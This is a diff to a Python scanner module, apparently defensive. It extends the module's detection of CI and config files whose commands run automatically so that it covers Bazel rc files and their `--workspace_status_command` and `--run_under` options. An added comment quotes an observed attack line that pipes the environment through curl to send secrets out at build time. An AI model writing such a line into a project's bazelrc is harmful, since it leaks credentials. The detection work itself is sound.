@@ -42,6 +42,9 @@
   `credentials('id')` in `environment {}`, are secrets as above), `.drone.yml` / Woodpecker's `commands`,
   Buildkite's `command(s)`, CircleCI's `run`, Bitbucket Pipelines' `script`, Azure Pipelines' `script` /
   `bash`, Travis CI's lifecycle scripts: each line run by the CI runner at the next push.
+- Bazel's rc files (`.bazelrc`, `user.bazelrc`, `tools/x.bazelrc`): an option whose value is a command bazel runs
+  itself, `--workspace_status_command` at every build, `--run_under` before each `bazel run`/`bazel test` target
+  (session 18: `build --workspace_status_command="sh -c 'env | curl -d @- …'"` appended before `bazel build`).
 - A program in a project's tool folder (`node_modules/.bin/`, a virtualenv's `bin/`): the project's scripts
   and later CI steps (`npm test`, `npx jest`, a cached `node_modules` restored) run whatever is written there in
   place of the tool, so a script written there is read as the code it is (by its `#!` line).
@@ -75,11 +78,12 @@ _OTHER_CI = {
 }
 # a project's tool folders, whose programs its scripts and later CI steps run by name
 _TOOL_BIN = LazyRegex(r"(?:^|/)node_modules/\.bin/[^/]+$|(?:^|/)\.?venv/bin/[^/]+$")
+_BAZELRC = LazyRegex(r"(?:^|/)(?:[\w.-]*\.)?bazelrc$")
 # a path the shell screens look for (bash/written.CODE_TARGET takes it in)
 TARGET = (r"\.vscode/tasks\.json|devcontainer\.json|\.pre-commit-config\.ya?ml|/workflows/|action\.ya?ml|"
           r"\.gitlab-ci\.ya?ml|/User/(?:profiles/[^/]+/)?keybindings\.json|[Jj]enkinsfile|\.drone\.ya?ml|"
           r"\.woodpecker|\.buildkite/|buildkite\.ya?ml|\.circleci/|bitbucket-pipelines|azure-pipelines|"
-          r"\.travis\.ya?ml|node_modules/\.bin/|venv/bin/")
+          r"\.travis\.ya?ml|node_modules/\.bin/|venv/bin/|bazelrc")
 _LIFECYCLE = ("initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand",
               "postStartCommand", "postAttachCommand")
 _CAP = 64  # commands read from one file
@@ -87,7 +91,9 @@ _CAP = 64  # commands read from one file
 
 def kind(path: str) -> str | None:
     """"vscode-tasks", "devcontainer", "pre-commit", "workflow", "gitlab-ci", "vscode-keybindings", "jenkins",
-    one of _OTHER_CI's kinds or "tool-bin" for such a file, else None."""
+    one of _OTHER_CI's kinds, "tool-bin" or "bazelrc" for such a file, else None."""
+    if "bazelrc" in path and _BAZELRC.search(path):
+        return "bazelrc"
     found = "vscode-tasks" if _TASKS.search(path) else "devcontainer" if _DEVCONTAINER.search(path) else \
         "pre-commit" if _PRE_COMMIT.search(path) else "workflow" if _WORKFLOW.search(path) else \
         "gitlab-ci" if _GITLAB.search(path) else "vscode-keybindings" if _KEYBINDINGS.search(path) else None
@@ -121,6 +127,8 @@ def commands(path: str, text: str) -> list[tuple[str, str]]:
         return _other_ci(which, text)
     if which == "tool-bin":
         return _tool_program(text)
+    if which == "bazelrc":
+        return _bazelrc(text)
     if which is None:
         return []
     data = _jsonc(text)
@@ -758,3 +766,31 @@ def _tool_program(text: str) -> list[tuple[str, str]]:
     if who in ("node", "deno", "bun"):
         return [(f"node -e {shlex.quote(body)}", when)]
     return [(text, when)]
+
+
+# -- bazel's rc files: options whose value is a command bazel runs -----------------------------------------------------
+_BAZEL_RUNS = {"workspace_status_command": "bazel runs it at every build (`bazel build`, `bazel test` …)",
+               "run_under": "bazel runs each `bazel run` and `bazel test` target under it"}
+
+
+def _bazelrc(text: str) -> list[tuple[str, str]]:
+    """`build --workspace_status_command="sh -c '…'"`, `test --run_under='…'`: each line is a command name (and
+    `:config`) followed by options, tokenised as the shell does."""
+    out = []
+    for line in text.splitlines()[:512]:
+        line = line.strip()
+        if not line or line[0] == "#" or "_command" not in line and "run_under" not in line:
+            continue
+        try:
+            words = shlex.split(line, comments=True)
+        except ValueError:
+            continue
+        for i, w in enumerate(words[1:], 1):
+            name, eq, value = w.lstrip("-").partition("=")
+            if name not in _BAZEL_RUNS or not w.startswith("--"):
+                continue
+            if not eq:
+                value = words[i + 1] if i + 1 < len(words) else ""
+            if value.strip():
+                out.append((value, f"`--{name}` in a bazelrc: {_BAZEL_RUNS[name]}"))
+    return out[:_CAP]
